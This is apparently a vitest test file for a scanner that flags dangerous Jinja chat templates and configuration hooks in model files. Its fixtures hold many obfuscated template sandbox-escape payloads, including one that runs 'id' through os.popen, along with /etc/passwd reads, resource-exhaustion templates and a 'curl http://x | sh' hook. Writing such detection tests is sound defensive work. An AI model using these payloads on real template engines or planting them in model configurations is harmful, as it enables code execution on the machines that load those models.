import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { scanBytes } from '../test-scan.ts';
import { judgeTemplate } from './judge.ts';

const rulesOf = (text: string) => [...new Set(judgeTemplate(text).map((each) => each.ruleId))].sort();

describe('climbing out of the sandbox is found', () => {
  test.each([
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cla' ~ 'ss__') }}",
    "{{ ''['__cla' + 'ss__'] }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ ''['__ssalc__'[::-1]] }}",
    "{{ ''['__ssalc__'|reverse] }}",
    "{{ ''['X__class__X'|trim('X')] }}",
    "{{ ''['xx__class__'.lstrip('x')] }}",
    "{{ ''['__class__ x'.split()[0]] }}",
    "{{ ''['a-__class__'.split('-')|last] }}",
    "{{ ''['__cla,ss__'.split(',')|join] }}",
    "{{ ''['__class__|x'.partition('|')|first] }}",
    "{{ ''[['__', 'class', '__']|join] }}",
    "{{ ''[''.join(['__', 'class', '__'])] }}",
    "{{ ''['%c%cclass%c%c'|format(95, 95, 95, 95)] }}",
    "{{ ''['%c%cclass__' % (95, 95)] }}",
    "{{ ''['__CLASS__'|lower] }}",
    "{{ ''['__clxss__'.replace('x', 'a')] }}",
    "{{ ''[dict(__class__=1)|join] }}",
    "{% set a = '__cla' %}{% set b = a ~ 'ss__' %}{{ ''[b] }}{% set b = 'harmless' %}",
    "{% set a = '__class__' %}{% set a = '' %}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|groupby('role.__init__') }}",
    "{{ '{0.__class__}'.format(messages) }}",
    '{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}',
    "{% if x.__globals__['os'] %}{% endif %}",
    '{% macro m(a=x.__init__) %}{% endmacro %}',
    '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
    '{%- set x = func.func_globals -%}',
    "{{ 'a' if ''.__class__ else 'b' }}",
    "{{ [1, {'k': (x.__class__,)}] }}",
    "{{ x[1:''.__class__] }}",
    "{{ x is divisibleby(''.__class__) }}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    '{{ unclosed }}{{ x.__class__',
    "{% macro m(a, b) %}{{ ''[a ~ b] }}{% endmacro %}{{ m('__cla', 'ss__') }}",
    "{% macro m(a, b='ss__') %}{{ ''|attr(a ~ b) }}{% endmacro %}{{ m(a='__cla') }}",
    "{% macro u() %}{{ '_' * 2 }}{% endmacro %}{% set n = '_' * 2 %}{{ ''[n ~ 'class' ~ n] }}",
    "{% set name %}__class__{% endset %}{{ ''[name] }}",
    "{% set name %}__cl{{ 'ass' }}__{% endset %}{{ x|attr(name) }}",
    "{% set a, b = '__cla', 'ss__' %}{{ ''[a ~ b] }}",
    "{% with a='__cla', b='ss__' %}{{ ''[a ~ b] }}{% endwith %}",
    "{{ ''['ss__', '__cla'][0] }}{{ ''[('__init__', 'b')[0]] }}",
    "{{ ''['_x_xcxlxaxsxsx_x_'[::2]] }}",
    "{{ ''['__CLASS__'.swapcase()] }}",
    "{{ x|map('attr', 'gi_frame')|list }}",
    "{% set c = 95 %}{{ ''['%c%cclass%c%c' % (c, c, c, c)] }}",
  ])('%s', (text) => {
    expect(rulesOf(text)).toContain('MDL-TPL-001');
  });
});

describe('reaching for what no chat template needs is found', () => {
  test.each([
    "{% include '/etc/passwd' %}",
    "{% import 'other' as x %}",
    '{{ lipsum() }}',
    '{{ config.items() }}',
    '{{ request.application }}',
    "{{ open('/etc/passwd') }}",
    '{{ messages.pop()() }}',
    '{{ messages|attr(name) }}',
    '{{ self._TemplateReference__context }}',
    "{{ x.popen('id') }}",
    '{% debug %}',
    "{{ ''[a ~ b] }}",
    "{{ messages[parts|join('')] }}",
    "{{ ''[ns.name] }}",
    "{{ x|map('attr', n)|list }}",
    "{{ x|map('shell')|list }}",
  ])('%s', (text) => {
    expect(rulesOf(text)).toContain('MDL-TPL-002');
  });
});

describe('templates that never end are found', () => {
  test.each([
    '{% for i in range(10**9) %}x{% endfor %}',
    '{% set n = 100000 %}{% for i in range(n) %}{% for j in range(n) %}x{% endfor %}{% endfor %}',
    "{{ 'a' * 10**10 }}",
    "{{ 'a'|center(1000000000) }}",
    "{{ '%1000000000d' % 1 }}",
    '{{ 9**(9**9) }}',
    '{% for m in messages %}{% do messages.append(m) %}{% endfor %}',
    `{% set a = 'aa' %}${'{% set a = a ~ a %}'.repeat(30)}`,
    '{% for m in messages %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}',
  ])('%s', (text) => {
    expect(rulesOf(text)).toContain('MDL-TPL-005');
  });

  test.each(['{% for i in range(100) %}x{% endfor %}', "{{ ' ' * 40 }}", "{{ '%10.2f' % x }}{{ x|indent(4) }}", "{% set a = a ~ 'x' %}"])(
    'and %s is no such',
    (text) => {
      expect(rulesOf(text)).toEqual([]);
    },
  );
});

test('conditions on the date or on plain words in a message are told', () => {
  expect(rulesOf("{% if strftime_now('%Y') >= '2027' %}x{% endif %}")).toEqual(['MDL-TPL-004']);
  expect(rulesOf("{% if 'quarterly report' in messages[-1]['content'] %}x{% endif %}")).toEqual(['MDL-TPL-004']);
  expect(rulesOf("{% if '</think>' in message.content %}x{% endif %}{% set date = strftime_now('%d %b %Y') %}")).toEqual([]);
});

test('broken templates are told', () => {
  for (const text of [
    '{{ a',
    '{% if x %}',
    '{% endfor %}',
    '{{ a b }}',
    '{# never closed',
    "{{ 'never closed }}",
    '{% for x %}{% endfor %}',
    '{% if x %}{% endfor %}',
    '{% nosuchtag x %}',
  ])
    expect(rulesOf(text)).toContain('MDL-TPL-003');
});

test('what stands in text, comments, raw blocks and strings of no meaning is not judged', () => {
  expect(
    rulesOf("''.__class__ {# ''.__class__ #}{% raw %}{{ ''.__class__ }}{% endraw %}{{ 'about __class__ in Python' }}{{ '__image__' }}"),
  ).toEqual([]);
});

// Constructs of templates that Llama, Qwen, Mistral, Gemma, DeepSeek and Command-R publish.
describe('what published templates do is clean', () => {
  test.each([
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}",
    '{%- if strftime_now is defined %}\n    {%- set date_string = strftime_now("%d %b %Y") %}\n{%- else %}\n    {%- set date_string = "26 Jul 2024" %}\n{%- endif %}{{- \'Today Date: \' + date_string }}',
    '{%- if tools is not none and not tools_in_user_message %}{%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}{%- endif %}{{- raise_exception("Cannot put tools in the first user message when there\'s no first user message!") }}',
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{%- if ns.multi_step_tool and message.role == \"user\" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}",
    "{%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}{{- '<|im_start|>' + message.role + '\\n' + content }}",
    '{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}{%- if (message["role"] == "user") != (ns.index % 2 == 0) %}{%- endif %}{%- for key, val in tool.items() if key != "return" %}{{- \'"\' + key + \'": \' + val|tojson }}{%- if not loop.last %}{{- ", " }}{%- endif %}{%- endfor %}',
    "{% macro render_extra_keys(json_dict, handled_keys) %}{%- if json_dict is mapping %}{%- for json_key in json_dict if json_key not in handled_keys %}{%- if json_dict[json_key] is mapping or (json_dict[json_key] is sequence and json_dict[json_key] is not string) %}{{- '\\n<' ~ json_key ~ '>' ~ (json_dict[json_key] | tojson | safe) ~ '</' ~ json_key ~ '>' }}{%- endif %}{%- endfor %}{%- endif %}{% endmacro %}{{ render_extra_keys(tool, ['type']) }}",
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('x') }}{% endif %}{% set role = 'model' if message['role'] == 'assistant' else message['role'] %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}",
    // Qwen 2.5 and Hermes: tools, calls, role runs.
    "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}{%- else %}{{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}{%- endif %}{{- \"\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\nYou are provided with function signatures within <tools></tools> XML tags:\\n<tools>\" }}{%- for tool in tools %}{{- \"\\n\" }}{{- tool | tojson }}{%- endfor %}{%- endif %}{%- for message in messages %}{%- if (message.role == \"user\") or (message.role == \"system\" and not loop.first) or (message.role == \"assistant\" and not message.tool_calls) %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}{%- elif message.role == \"tool\" %}{%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != \"tool\") %}{{- '<|im_start|>user' }}{%- endif %}{%- if loop.last or (messages[loop.index0 + 1].role != \"tool\") %}{{- '<|im_end|>\\n' }}{%- endif %}{%- endif %}{%- endfor %}",
    // DeepSeek R1.
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{bos_token}}{{ns.system_prompt}}{%- for message in messages %}{%- if message['role'] == 'assistant' and message['content'] is none %}{%- set ns.is_tool = false -%}{%- for tool in message['tool_calls']%}{%- if not ns.is_first %}{{'<｜Assistant｜><｜tool▁calls▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```'}}{%- set ns.is_first = true -%}{%- endif %}{%- endfor %}{%- endif %}{%- if message['role'] == 'assistant' %}{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{'<｜Assistant｜>' + content}}{%- endif %}{%- endfor -%}",
    // Mistral with tools and identifiers that are checked.
    '{%- if not tools is defined %}{%- set tools = none %}{%- endif %}{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}{#- checks for alternating roles #}{%- set ns = namespace() %}{%- set ns.index = 0 %}{%- for message in loop_messages %}{%- if not (message.role == "tool" or message.role == "tool_results" or (message.tool_calls is defined and message.tool_calls is not none)) %}{%- if (message["role"] == "user") != (ns.index % 2 == 0) %}{{- raise_exception("roles must alternate") }}{%- endif %}{%- set ns.index = ns.index + 1 %}{%- endif %}{%- for tool_call in message.tool_calls %}{%- set out = tool_call.function|tojson %}{{- out[:-1] }}{%- if not tool_call.id is defined or tool_call.id|length != 9 %}{{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}{%- endif %}{%- endfor %}{%- endfor %}',
    // gpt-oss: macros that write types.
    '{%- macro render_typescript_type(param_spec, required_params, is_nullable=false) -%}{%- if param_spec.type == "array" -%}{{- render_typescript_type(param_spec[\'items\'], required_params) + "[]" }}{%- elif param_spec.type is defined and param_spec.type is iterable and param_spec.type is not string and param_spec.type is not mapping and param_spec.type[0] is defined -%}{{- param_spec.type | join(" | ") }}{%- elif param_spec.enum -%}{{- \'"\' + param_spec.enum|join(\'" | "\') + \'"\' -}}{%- else -%}{%- for prop_name, prop_spec in param_spec.properties.items() -%}{{- prop_name -}}{%- if prop_name not in (param_spec.required or []) -%}?{%- endif -%}{%- if not loop.last -%}, {%- endif -%}{%- endfor -%}{%- endif -%}{%- endmacro -%}{{- "Current date: " + strftime_now("%Y-%m-%d") + "\\n\\n" }}{%- set last_tool_call = namespace(name=none) %}{{- render_typescript_type(tool, []) }}',
    // Command-R, Granite, Phi, GLM.
    "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% elif false == true %}{% set loop_messages = messages %}{% set system_message = 'You are Command-R, a brilliant, sophisticated, AI-assistant.' %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for tool in tools %}{% if loop.index0 != 0 %}{{ '\\n\\n'}}{% endif %}{{'```python\\ndef ' + tool.name + '('}}{% for param_name, param_fields in tool.parameter_definitions.items() %}{% if loop.index0 != 0 %}{{ ', '}}{% endif %}{{param_name}}: {% if not param_fields.required %}{{'Optional[' + param_fields.type + '] = None'}}{% else %}{{ param_fields.type }}{% endif %}{% endfor %}{% endfor %}{% for document in documents %}{{ '\\nDocument: ' }}{{ loop.index0 }}\\n{% for key, value in document.items() %}{{ key }}: {{value}}\\n{% endfor %}{% endfor %}",
    "{%- set ns = namespace(last_user_index=-1) %}{%- for m in messages %}{%- if m.role == 'user' %}{% set ns.last_user_index = loop.index0 -%}{%- endif %}{%- endfor %}{%- macro visible_text(content) -%}{%- if content is string -%}{{- content }}{%- elif content is iterable and content is not mapping -%}{%- for item in content -%}{%- if item is mapping and item.type == 'text' -%}{{- item.text }}{%- elif item is string -%}{{- item }}{%- endif -%}{%- endfor -%}{%- else -%}{{- content }}{%- endif -%}{%- endmacro -%}{% for m in messages %}{% set content = visible_text(m.content) %}{{ '/nothink' if (enable_thinking is defined and not enable_thinking and not content.endswith(\"/nothink\")) else '' }}{% for tc in m.tool_calls %}{% set _args = tc.arguments %}{% for k, v in _args.items() %}<arg_key>{{ k }}</arg_key><arg_value>{{ v | tojson(ensure_ascii=False) if v is not string else v }}</arg_value>{% endfor %}{% endfor %}{% endfor %}",
    "{% generation %}{{ message['content'] }}{% endgeneration %}{% do messages.append({'role': 'x'}) %}{% set _ = parts.append(x) %}{{ parts|join(', ') }}{{ '%.2f'|format(x) }}{{ x.get('a', none) }}",
    "{% macro render(items) %}{{ caller(items) }}{% endmacro %}{%- call(item) render(items) -%}{{ item }}{%- endcall -%}{%- with a = 1, b = 'c' -%}{{ a ~ b }}{%- endwith -%}{% set x %}block{% endset %}{% set y | trim %} z {% endset %}{% for a, b in x.items() recursive %}{{ loop(b) }}{% else %}none{% endfor %}",
  ])('template %#', (text) => {
    expect(judgeTemplate(text)).toEqual([]);
  });
});

test('text of any kind is judged without failing or hanging', () => {
  const piece = fc.constantFrom(
    '{{',
    '}}',
    '{%',
    '%}',
    '{#',
    '#}',
    "'",
    '"',
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    '|',
    '.',
    'is',
    'not',
    'in',
    'if',
    'else',
    'for',
    'set',
    'x',
    '__class__',
    ' ',
    '=',
    ',',
    ':',
    '1',
    '~',
    '*',
    '\\',
    'raw',
    'endraw',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 5 })), { maxLength: 60 }), (pieces) => {
      for (const each of judgeTemplate(pieces.join(''))) expect(each.ruleId).toMatch(/^MDL-TPL-00[1-5]$/);
    }),
    { numRuns: 2000 },
  );
});

test('deep nesting and endless chains are told as unreadable', () => {
  for (const text of [
    `{{ ${'('.repeat(5000)} }}`,
    `{{ ${'['.repeat(5000)}${']'.repeat(5000)} }}`,
    `{{ a${'~a'.repeat(50_000)} }}`,
    `{{ a${'.b'.repeat(50_000)} }}`,
    `{{ ${'not '.repeat(5000)}a }}`,
    `{{ ${'-'.repeat(5000)}a }}`,
  ])
    expect(rulesOf(text)).toEqual(['MDL-TPL-003']);
});

describe('where templates are found', () => {
  const climbing = "{{ ''.__class__ }}";
  test('in any string of a model configuration, also in a list of named templates', () => {
    for (const value of [climbing, [{ name: 'tool_use', template: climbing }], { default: climbing }])
      expect(scanBytes(Buffer.from(JSON.stringify({ tokenizer_class: 'X', chat_template: value }))).rules).toEqual(['MDL-TPL-001']);
  });

  test('in a template file, at its place', () => {
    const text = `{% for message in messages %}{{ message }}{% endfor %}\n${climbing}`;
    const [found] = scanBytes(Buffer.from(text)).observations;
    expect(found?.location.offset).toBe(text.indexOf(climbing));
  });

  test('code that a configuration names, and commands in it, are told', () => {
    const config = { auto_map: { AutoModel: 'modeling_x.XModel' }, transformers_version: '4.40', hook: 'curl http://x | sh' };
    expect(scanBytes(Buffer.from(JSON.stringify(config))).rules).toEqual(['MDL-CFG-001', 'MDL-CFG-002']);
  });
});
